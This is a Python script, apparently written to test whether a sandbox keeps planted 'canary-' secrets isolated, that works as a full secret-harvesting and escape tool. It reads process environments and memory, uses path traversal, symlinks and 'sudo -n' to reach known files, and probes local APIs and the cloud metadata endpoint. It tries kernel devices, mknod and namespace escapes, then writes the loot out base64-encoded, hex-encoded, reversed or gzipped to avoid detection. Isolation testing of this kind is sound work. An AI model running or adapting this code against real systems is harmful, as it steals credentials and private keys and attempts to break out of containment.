"""A hostile program: looks for other people's secrets wherever code can look, and smuggles out what it finds.

    hunt.py LOOT_FOLDER PORT PATH...

It knows how the secrets look (`canary-` and 64 hex digits), which port the API listens on and where everything lies
on the host; what it does not have is a way there. The loot leaves by standard output, standard error and files,
plain and in disguise. Every attempt may fail; none may end the hunt.
"""

import base64
import ctypes
import gzip
import mmap
import os
import re
import socket
import subprocess
import sys
import time

PATTERN = re.compile(rb"canary-[0-9a-f]{64}|BEGIN PRIVATE KEY-----\s+[A-Za-z0-9+/=\s]{64,}")
DEADLINE = time.monotonic() + 40
BIG = 64 << 20
found = {}
tried = 0
raw = []


def look(place, data):
    for match in PATTERN.findall(data):
        found.setdefault(match, set()).add(place)


def attempt(what, *args):
    global tried
    tried += 1
    try:
        return what(*args)
    except BaseException as error:  # noqa: BLE001: whatever happens, go on
        raw.append(f"{what.__name__} {args[:1]}: {error!r}".encode())
        return None


def read(path, limit=BIG):
    # Some files of /proc and /dev wait for more; nobody may keep the hunter waiting.
    with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb", 0) as file:
        data = b""
        while len(data) < limit and (piece := file.read(limit - len(data))):
            data += piece
    look(path, data)
    return data


def memory(pid):
    """Everything that a process has in memory."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            span, rights = line.split()[:2]
            start, end = (int(side, 16) for side in span.split("-"))
            if "r" not in rights or end - start > BIG or time.monotonic() > DEADLINE:
                continue
            try:
                mem.seek(start)
                look(f"/proc/{pid}/mem", mem.read(end - start))
            except (OSError, OverflowError, ValueError):
                pass


def process_vm(pid):
    """The same by another system call."""
    libc = ctypes.CDLL(None, use_errno=True)

    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    with open(f"/proc/{pid}/maps") as maps:
        start = int(maps.readline().split("-")[0], 16)
    buffer = ctypes.create_string_buffer(4096)
    here, there = Vector(ctypes.addressof(buffer), 4096), Vector(start, 4096)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) < 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv")
    look(f"process_vm_readv {pid}", buffer.raw)


def processes():
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        for part in ("environ", "cmdline", "mountinfo", "status"):
            attempt(read, f"/proc/{pid}/{part}")
        for link in os.listdir(f"/proc/{pid}/fd") if os.access(f"/proc/{pid}/fd", os.R_OK) else []:
            attempt(descriptor, f"/proc/{pid}/fd/{link}")
    for pid in {1, os.getppid(), os.getpid()}:
        attempt(memory, pid)
        attempt(process_vm, pid)


def descriptor(path):
    target = os.readlink(path)
    raw.append(f"{path} -> {target}".encode())
    if target.startswith("/") and not target.startswith("/dev/") or "memfd" in target:
        read(path)


def walk(top):
    for folder, folders, names in os.walk(top, onerror=lambda error: raw.append(repr(error).encode())):
        folders[:] = [name for name in folders if name not in ("proc", "sys", "target", ".git", "node_modules")]
        for name in names:
            path = os.path.join(folder, name)
            if time.monotonic() > DEADLINE:
                return
            if os.path.isfile(path) and os.path.getsize(path) < (4 << 20):
                attempt(read, path)


def known_place(path):
    """A place that the attacker knows of, and every way around to it."""
    roots = ["", "/..", "/proc/1/root", "/proc/self/root/..", f"/proc/{os.getppid()}/root", f"/proc/{os.getppid()}/cwd/../../.."]
    for start in roots:
        attempt(read, start + path)
    climb = "../" * 12 + path.lstrip("/")
    attempt(read, climb)
    link = os.path.join(loot, "link" + path.replace("/", "_"))
    attempt(os.symlink, path, link)
    attempt(read, link)
    attempt(os.link, path, link + ".hard")
    attempt(command, ["sudo", "-n", "cat", path])


def command(argv):
    done = subprocess.run(argv, capture_output=True, timeout=5, stdin=subprocess.DEVNULL)
    look(" ".join(argv), done.stdout + done.stderr)
    raw.append((" ".join(argv)).encode() + b": " + (done.stdout + done.stderr)[:400])


def ask(host, port, request):
    with socket.create_connection((host, port), timeout=1) as connection:
        connection.sendall(request)
        look(f"{host}:{port}", connection.recv(65536))


def network(port):
    for path in ("/v1/tree/tenants/globex/plans.txt", "/v1/runs", "/latest/meta-data/"):
        request = f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode()
        for host in ("127.0.0.1", "::1", "localhost", "169.254.169.254", "10.0.0.1"):
            attempt(ask, host, port if host not in ("169.254.169.254",) else 80, request)
    for line in (attempt(read, "/proc/net/unix") or b"").splitlines()[1:20]:
        attempt(unix, line.split()[-1])
    attempt(raw_socket)


def unix(name):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(1)
        connection.connect(name.replace(b"@", b"\0", 1))
        look(repr(name), connection.recv(4096))


def raw_socket():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)


def leftovers():
    """Memory that somebody used before: fresh pages, and what the allocator hands out again."""
    with mmap.mmap(-1, 128 << 20) as pages:
        look("fresh pages", pages[:])
    libc = ctypes.CDLL(None)
    libc.malloc.restype = ctypes.c_void_p
    for size in (64, 4096, 1 << 20):
        for _ in range(64):
            address = libc.malloc(size)
            if address:
                look("malloc", ctypes.string_at(address, size))


def kernel():
    for path in ("/proc/kcore", "/proc/keys", "/proc/key-users", "/proc/kmsg", "/dev/kmsg", "/dev/mem", "/proc/sysrq-trigger"):
        attempt(read, path, 1 << 20)
    for argv in (["dmesg"], ["mount"], ["ps", "axewwo", "pid,args"], ["unshare", "-Ur", "id"], ["nsenter", "-t", "1", "-m", "id"]):
        attempt(command, argv)
    for name in ("vda", "vda1", "sda", "sda1", "nvme0n1"):
        attempt(os.mknod, os.path.join(loot, name), 0o600 | 0o60000, os.makedev(254, 0))
    attempt(os.chroot, "/..")


def smuggle():
    lines = [text + b" in " + ", ".join(sorted(found[text])[:3]).encode() for text in sorted(found)]
    plain = b"\n".join(lines) + b"\n"
    packed = gzip.compress(plain)
    forms = {
        "plain.txt": plain,
        "hex.txt": plain.hex().encode(),
        "base64.txt": base64.b64encode(plain),
        "shifted1.txt": base64.b64encode(b"x" + plain),
        "shifted2.txt": base64.b64encode(b"xx" + plain),
        "reversed.txt": plain[::-1],
        "packed.gz": packed,
        "packed.b64": base64.b64encode(packed),
        "tried.txt": b"\n".join(raw),
        "environment.txt": repr(dict(os.environ)).encode(),
    }
    for name, data in forms.items():
        attempt(write, os.path.join(loot, name), data)
    sys.stdout.buffer.write(plain)
    sys.stdout.buffer.write(f"{len(found)} secrets, {tried} attempts\n".encode())
    sys.stdout.flush()
    sys.stderr.buffer.write(base64.b64encode(plain[::-1]) + b"\n" + packed)


def write(path, data):
    with open(path, "wb") as file:
        file.write(data)


loot, port, places = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
os.makedirs(loot, exist_ok=True)
look("environment", repr(dict(os.environ)).encode())
for place in places:
    attempt(known_place, place)
attempt(processes)
attempt(network, port)
attempt(kernel)
attempt(leftovers)
for top in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/root", "/data", "/var/lib", "/etc", "/srv", "/mnt", "."):
    attempt(walk, top)
smuggle()
